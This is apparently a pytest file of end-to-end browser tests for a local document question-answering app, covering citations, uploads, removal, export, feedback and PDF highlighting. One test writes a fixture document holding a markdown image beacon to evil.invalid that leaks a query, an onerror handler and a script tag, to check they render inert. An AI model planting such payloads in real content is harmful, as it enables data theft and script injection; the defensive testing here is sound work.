"""End to end in real headless Chromium (Debian's chromium + chromedriver), driven with Selenium.

Screenshots go to a temp folder printed at the end of the session (the README's come from there).
"""

from __future__ import annotations

import json
import shutil
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any
from urllib.parse import urlparse

import pytest

from tests.ui.conftest import Served

pytestmark = pytest.mark.slow

CHROMIUM = "/usr/bin/chromium"
CHROMEDRIVER = "/usr/bin/chromedriver"
FLAGS = (
    "--headless --no-sandbox --disable-gpu --no-first-run --disable-background-networking "
    "--disable-component-update --disable-sync --disable-quic --window-size=1440,1000"
).split()
QUESTION = "Who was absent from Cyber Coalition 2023?"
WAIT_S = 90


@pytest.fixture(scope="module")
def shots(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("screenshots")


@contextmanager
def chromium(logs: bool = False) -> Iterator[Any]:
    """Headless Chromium with a profile of its own (no cookies, no storage), removed afterwards; `logs`: keep
    the performance and console logs."""
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    if not (Path(CHROMIUM).exists() and Path(CHROMEDRIVER).exists()):
        pytest.fail("Debian's chromium and chromium-driver are needed: apt-get install -y chromium chromium-driver")
    profile = tempfile.mkdtemp(prefix="fonte-chromium-")
    opts = webdriver.ChromeOptions()
    opts.binary_location = CHROMIUM
    for flag in [*FLAGS, f"--user-data-dir={profile}"]:
        opts.add_argument(flag)
    if logs:
        opts.set_capability("goog:loggingPrefs", {"performance": "ALL", "browser": "ALL"})
    driver = webdriver.Chrome(service=Service(CHROMEDRIVER), options=opts)
    try:
        yield driver
    finally:
        driver.quit()
        shutil.rmtree(profile, ignore_errors=True)


@pytest.fixture(scope="module")
def browser(served: Served) -> Iterator[Any]:
    with chromium(logs=True) as driver:
        driver.requested = []  # every URL the page asked for, gathered from the performance log
        yield driver


def _requests(driver: Any) -> list[str]:
    for entry in driver.get_log("performance"):
        msg = json.loads(entry["message"])["message"]
        if msg["method"] in ("Network.requestWillBeSent", "Network.webSocketCreated"):
            url = msg["params"].get("request", {}).get("url") or msg["params"].get("url", "")
            driver.requested.append(url)
    return list(driver.requested)


def _wait(driver: Any, cond: Any, timeout: float = WAIT_S) -> Any:
    from selenium.webdriver.support.ui import WebDriverWait

    return WebDriverWait(driver, timeout, poll_frequency=0.2).until(cond)


def _css(driver: Any, selector: str) -> list[Any]:
    from selenium.webdriver.common.by import By

    return list(driver.find_elements(By.CSS_SELECTOR, selector))


def _open(driver: Any, served: Served) -> None:
    driver.get(served.url + "/")
    _wait(driver, lambda d: _css(d, "#fonte-question textarea"))


def _send(driver: Any, question: str) -> None:
    """Type a question and press Ask."""
    box = _css(driver, "#fonte-question textarea")[0]
    box.clear()
    box.send_keys(question)
    _css(driver, "#fonte-ask")[0].click()


def _ask(driver: Any, question: str) -> Any:
    """Type a question, send it, and wait for the finished answer (streaming cursor gone)."""
    before = len(_css(driver, "#fonte-chat .message-row, #fonte-chat .message"))
    _send(driver, question)

    def finished(d: Any) -> Any:
        from selenium.common.exceptions import StaleElementReferenceException

        try:  # the chat is redrawn as the answer lands: an element may go stale, or read "Loading content"
            bots = _css(d, "#fonte-chat .bot")
            if len(_css(d, "#fonte-chat .message-row, #fonte-chat .message")) <= before or not bots:
                return False
            text = bots[-1].text
        except StaleElementReferenceException:
            return False
        busy = ("▍", "Searching your documents", "Loading content")
        return bots[-1] if text and not any(b in text for b in busy) else False

    return _wait(driver, finished)


def _tab(driver: Any, tab_id: str) -> None:
    """Open a tab by its id (`ask`, `documents`, `settings`): its label follows the question's language."""
    _css(driver, f"#fonte-tab-{tab_id}-button")[0].click()


def _doc_count(driver: Any) -> int:
    cells = _css(driver, "#fonte-collection .fonte-stat[data-key='documents'] .fonte-stat-v")
    return int(cells[0].text) if cells and cells[0].text.strip().isdigit() else -1


def test_ask_click_citation_and_see_the_highlighted_sentence(browser: Any, served: Served, shots: Path) -> None:
    _open(browser, served)
    browser.save_screenshot(str(shots / "01-empty.png"))
    bot = _ask(browser, QUESTION)
    assert "Montenegro" in bot.text
    answer = served.assistant.ask(QUESTION)  # the same answer, to know each citation's quote
    assert answer.citations and _css(browser, '#fonte-chat .bot a[href*="#fonte-cite-0-1"]')
    assert _css(browser, "#fonte-sources mark.fonte-quote") and not _css(browser, "#fonte-sources .fonte-active")
    browser.save_screenshot(str(shots / "02-answer.png"))
    marks = {}
    for c in answer.citations:  # [1] first
        _css(browser, f'#fonte-chat .bot a[href*="#fonte-cite-0-{c.n}"]')[0].click()
        card = _wait(browser, lambda d, n=c.n: _css(d, f"#fonte-sources .fonte-active[data-n='{n}']"))[0]
        marks[c.n] = " ".join(card.find_element("css selector", "mark.fonte-quote").text.split())
        assert marks[c.n] == " ".join(c.quote.split())
        if c.n == 1:
            browser.save_screenshot(str(shots / "03-source.png"))
    assert any(all(name in m for name in ("Montenegro", "Lussemburgo", "Belgio")) for m in marks.values())
    # the clicks did not navigate (the address names the open conversation: ?c=<id>)
    assert browser.current_url.split("?")[0].rstrip("/") == served.url and "#" not in browser.current_url


def test_an_abstention_looks_different_and_lists_closest_passages(browser: Any, served: Served, shots: Path) -> None:
    _open(browser, served)
    bot = _ask(browser, "Who won the 2022 football World Cup?")
    assert "Not found in your documents" in bot.text
    assert bot.find_elements("css selector", "blockquote")  # styled apart from answers
    assert not bot.find_elements("css selector", 'a[href*="#fonte-cite-"]')
    assert "Closest passages" in bot.text and "NATO" in bot.text
    assert "Not found in your documents" in _css(browser, "#fonte-sources")[0].text
    browser.save_screenshot(str(shots / "05-abstention.png"))


def test_upload_a_file_and_see_it_counted(browser: Any, served: Served, shots: Path, tmp_path: Path) -> None:
    _open(browser, served)
    _tab(browser, "documents")
    before = _wait(browser, lambda d: _doc_count(d) if _doc_count(d) >= 0 else False)
    doc = tmp_path / "harbour-report.md"
    doc.write_text(
        "# Harbour report\n\nThe harbour of Porto Azzurro reopened on 3 March after the storm. "
        "The repair of the north pier cost 2.4 million euros and took eleven weeks.\n",
        encoding="utf-8",
    )
    broken = tmp_path / "minutes.pdf"
    broken.write_text("this is not a PDF at all", encoding="utf-8")
    _css(browser, "#fonte-upload input[type='file']")[0].send_keys(f"{doc}\n{broken}")
    _wait(browser, lambda d: _doc_count(d) == before + 1)
    table = _wait(browser, lambda d: [t.text for t in _css(d, "#fonte-files") if "minutes.pdf" in t.text])[0]
    assert "harbour-report.md" in table and "added" in table and "rejected" in table
    browser.save_screenshot(str(shots / "04-documents.png"))
    _tab(browser, "ask")
    bot = _ask(browser, "How much did the repair of the north pier cost?")
    assert "2.4" in bot.text or "2,4" in bot.text


def test_the_documents_tab_lists_removes_and_explains_every_upload(
    browser: Any, served: Served, shots: Path, tmp_path: Path
) -> None:
    """Issue 26: the tab lists the collection, removes a document (after asking), gives a status to every file
    of an upload (a .csv says why it is refused) and shows no server path."""
    from selenium.webdriver.support import expected_conditions

    _open(browser, served)
    _tab(browser, "documents")
    _wait(browser, lambda d: "000_94d06d01d66e2e54.txt" in _css(d, "#fonte-doclist")[0].text)
    before = _doc_count(browser)
    memo = tmp_path / "archive-memo.txt"
    memo.write_text(
        "Archive move\n\nTo: All staff\nDate: 4 March 2024\nThe paper archive moves to room 214 on 15 April.\n",
        encoding="utf-8",
    )
    table = tmp_path / "budget.csv"
    table.write_text("year,amount\n2024,100\n", encoding="utf-8")
    _css(browser, "#fonte-upload input[type='file']")[0].send_keys(f"{memo}\n{table}")
    _wait(browser, lambda d: "archive-memo.txt" in _css(d, "#fonte-doclist")[0].text)
    files = _wait(browser, lambda d: [t.text for t in _css(d, "#fonte-files") if "budget.csv" in t.text])[0]
    assert "archive-memo.txt" in files and "added" in files and "unsupported type .csv" in files
    row = [r.text for r in _css(browser, "#fonte-doclist tr") if "archive-memo.txt" in r.text][0]
    assert row.startswith("Archive move") and _doc_count(browser) == before + 1
    browser.save_screenshot(str(shots / "08-documents-list.png"))
    page = browser.page_source
    assert served.settings.data_dir not in page and str(tmp_path) not in page and "/uploads" not in page

    _css(browser, "#fonte-remove-pick input")[0].click()
    options = "#fonte-remove-pick li[role='option']"
    option = _wait(browser, lambda d: [o for o in _css(d, options) if "archive-memo.txt" in o.text])[0]
    option.click()
    _css(browser, "#fonte-remove")[0].click()
    # Remove asks first, naming the document: cancelled, nothing goes; confirmed, it is removed
    alert = _wait(browser, expected_conditions.alert_is_present())
    assert "archive-memo.txt" in alert.text
    alert.dismiss()
    _wait(browser, lambda d: "Nothing was removed" in _css(d, "#fonte-remove-note")[0].text)
    assert "archive-memo.txt" in _css(browser, "#fonte-doclist")[0].text
    _css(browser, "#fonte-remove")[0].click()
    _wait(browser, expected_conditions.alert_is_present()).accept()
    _wait(browser, lambda d: "archive-memo.txt" not in _css(d, "#fonte-doclist")[0].text)
    assert "Removed archive-memo.txt" in _css(browser, "#fonte-remove-note")[0].text
    _wait(browser, lambda d: _doc_count(d) == before)
    assert not any("archive-memo" in doc_id for doc_id in served.assistant.index.documents(refresh=True))


def test_export_and_feedback(browser: Any, served: Served) -> None:
    import httpx

    from ui.feedback import feedback_path

    _open(browser, served)
    _ask(browser, QUESTION)
    _css(browser, "#fonte-export")[0].click()
    links = _wait(browser, lambda d: [a.get_attribute("href") for a in _css(d, "#fonte-export-files a[href]")])
    js = next(u for u in links if u.split("?")[0].endswith(".json"))
    data = httpx.get(js, timeout=10).json()
    cite = data["turns"][0]["citations"][0]
    assert data["turns"][0]["question"] == QUESTION
    # the export names a document by its file name, never the server's folders (ui.export.public_source)
    doc_id = next(d for d in served.assistant.index.documents() if Path(d.split("#")[0]).name == cite["doc_id"])
    assert "/" not in cite["doc_id"] and "/" not in cite["source"]
    assert served.assistant.document_text(doc_id)[cite["start"] : cite["end"]] == cite["quote"]
    path = feedback_path(served.settings)
    before = path.read_text(encoding="utf-8").count("\n") if path.exists() else 0
    _css(browser, "#fonte-feedback")[0].click()  # open the accordion
    box = _wait(browser, lambda d: [t for t in _css(d, "#fonte-feedback textarea") if t.is_displayed()])[0]
    box.send_keys("right sentence, thanks")
    _css(browser, "#fonte-up")[0].click()
    _wait(browser, lambda d: "saved" in _css(d, "#fonte-feedback-note")[0].text)
    _wait(browser, lambda d: box.get_attribute("value") == "")  # the comment went with this vote, not the next
    lines = path.read_text(encoding="utf-8").splitlines()
    assert len(lines) == before + 1
    last = json.loads(lines[-1])
    assert last["rating"] == "up" and last["comment"] == "right sentence, thanks" and last["question"] == QUESTION


def test_a_document_with_markdown_image_and_html_renders_inert(browser: Any, served: Served, tmp_path: Path) -> None:
    from ingest.pipeline import ingest

    evil = tmp_path / "falco-notes.txt"
    evil.write_text(
        "Project Falco notes.\n\nThe launch code of Project Falco ![x](http://evil.invalid/leak?q=falco) is kept in "
        "vault nine <img src=http://evil.invalid/p.png onerror=window.pwned=1> under the old library "
        "<script>window.pwned=2</script> of Lucca.\n",
        encoding="utf-8",
    )
    ingest([evil], served.assistant.index, prune=False)
    served.assistant.refresh()
    _open(browser, served)
    bot = _ask(browser, "Where is the launch code of Project Falco kept?")
    assert "vault nine" in bot.text
    _css(browser, '#fonte-chat .bot a[href*="#fonte-cite-"]')[0].click()
    _wait(browser, lambda d: _css(d, "#fonte-sources mark.fonte-quote"))
    page = browser.find_element("css selector", "body")
    assert "evil.invalid" in page.text  # shown as text ...
    assert not [i for i in _css(browser, "img") if "evil" in (i.get_attribute("src") or "")]  # ... never loaded
    assert not _css(browser, "#fonte-chat script, #fonte-sources script")
    assert browser.execute_script("return window.pwned === undefined")
    assert not [u for u in _requests(browser) if "evil" in u]


def test_local_mode_streams_into_the_page(browser: Any, served: Served, shots: Path) -> None:
    """With the local LLM (installed by the set-up): the answer grows in the page, then its [n] open sources."""
    from selenium.webdriver.common.keys import Keys

    assert "local" in served.assistant.status()["modes"], "the local LLM is not installed: run scripts/setup.sh"
    _open(browser, served)
    _tab(browser, "settings")
    box = _wait(browser, lambda d: [e for e in _css(d, "#fonte-mode input") if e.is_displayed()])[0]
    box.click()
    box.send_keys(Keys.CONTROL, "a")
    box.send_keys("local", Keys.ENTER)
    _wait(browser, lambda d: _css(d, "#fonte-mode input")[0].get_attribute("value") == "local")
    _wait(browser, lambda d: "local mode" in _css(d, "#fonte-header")[0].text)
    _tab(browser, "ask")
    box = _css(browser, "#fonte-question textarea")[0]
    box.send_keys(QUESTION)
    _css(browser, "#fonte-ask")[0].click()
    seen: set[str] = set()

    def streaming_then_done(d: Any) -> bool:
        from selenium.common.exceptions import StaleElementReferenceException

        try:  # each piece redraws the message: the element read may be gone
            bots = _css(d, "#fonte-chat .bot")
            text = bots[-1].text if bots else ""
        except StaleElementReferenceException:
            return False
        if "▍" in text:
            seen.add(text)
        return bool(seen) and "▍" not in text and bool(_css(d, '#fonte-chat .bot a[href*="#fonte-cite-0-"]'))

    _wait(browser, streaming_then_done, timeout=240)
    assert seen  # the answer was shown while it was being written
    # its links work as soon as it is checked, while the quotes may still be rendered
    _css(browser, '#fonte-chat .bot a[href*="#fonte-cite-0-"]')[0].click()
    _wait(browser, lambda d: _css(d, "#fonte-sources .fonte-active mark.fonte-quote"))
    # once the answer is over, the citation is still open, with the quote's English rendering beside it
    _wait(browser, lambda d: not _css(d, "#fonte-status .fonte-live"), timeout=240)
    assert _css(browser, "#fonte-sources .fonte-active mark.fonte-quote")
    assert _css(browser, "#fonte-sources .fonte-active .fonte-translation")
    browser.save_screenshot(str(shots / "06-local.png"))


def test_the_page_loads_nothing_external(browser: Any, served: Served) -> None:
    _open(browser, served)
    here = urlparse(served.url).netloc
    external = [u for u in _requests(browser) if u.startswith(("http", "ws")) and urlparse(u).netloc != here]
    assert not external
    assert any(urlparse(u).netloc == here for u in browser.requested)


def test_a_pdf_citation_shows_its_page_with_the_sentence_highlighted(
    browser: Any, served: Served, shots: Path, tmp_path: Path
) -> None:
    from ingest.pipeline import ingest
    from tests.ingest.ingest_fixtures import make_report_pdf
    from tests.ui.test_pages import AROUND, FACT, INTRO, char_centres

    pdf = tmp_path / "harbour-board.pdf"
    pdf.write_bytes(make_report_pdf([[INTRO], [FACT, AROUND], ["The end of the report."]]))
    ingest([pdf], served.assistant.index, prune=False)
    served.assistant.refresh()
    question = "Who rebuilt the Orsini lighthouse?"
    _open(browser, served)
    assert "Benvenuti" in _ask(browser, question).text
    (cite,) = [c for c in served.assistant.ask(question).citations if "Orsini" in c.quote and c.page == (2, 2)]
    _css(browser, f'#fonte-chat .bot a[href*="#fonte-cite-0-{cite.n}"]')[0].click()
    img = _wait(browser, lambda d: _css(d, "#fonte-sources .fonte-active img.fonte-page-img"))[0]
    _wait(browser, lambda d: d.execute_script("return arguments[0].complete && arguments[0].naturalWidth > 0", img))
    browser.execute_script("arguments[0].scrollIntoView({block: 'center'})", img)
    geometry = browser.execute_script(
        "const r = e => { const b = e.getBoundingClientRect(); return [b.left, b.top, b.width, b.height]; };"
        "const img = arguments[0];"
        "return {img: r(img), natural: [img.naturalWidth, img.naturalHeight], src: img.src.slice(0, 22),"
        " marks: [...img.parentElement.querySelectorAll('.fonte-hl')].map(r)};",
        img,
    )
    browser.save_screenshot(str(shots / "07-pdf-page.png"))
    browser.save_screenshot(str(tmp_path / "pdf-page.png"))
    left, top, width, height = geometry["img"]
    natural = geometry["natural"]
    assert geometry["src"] == "data:image/png;base64," and width > 100 and len(geometry["marks"]) == 2
    # the sentence's characters (pypdfium2's boxes on the page, scaled to the image as displayed)
    scale = (width / natural[0], height / natural[1])

    def shown(points: list[tuple[float, float]]) -> list[tuple[float, float]]:
        return [(left + x * scale[0], top + y * scale[1]) for x, y in points]

    def inside(p: tuple[float, float], m: list[float]) -> bool:
        return m[0] - 1 <= p[0] <= m[0] + m[2] + 1 and m[1] - 1 <= p[1] <= m[1] + m[3] + 1

    fact = shown(char_centres(pdf, 2, FACT, (natural[0], natural[1])))
    around = shown(char_centres(pdf, 2, AROUND, (natural[0], natural[1])))
    assert all(any(inside(p, m) for m in geometry["marks"]) for p in fact)
    assert all(any(inside(p, m) for p in fact) for m in geometry["marks"])
    assert not any(inside(p, m) for p in around for m in geometry["marks"])
    assert str(tmp_path) not in browser.page_source
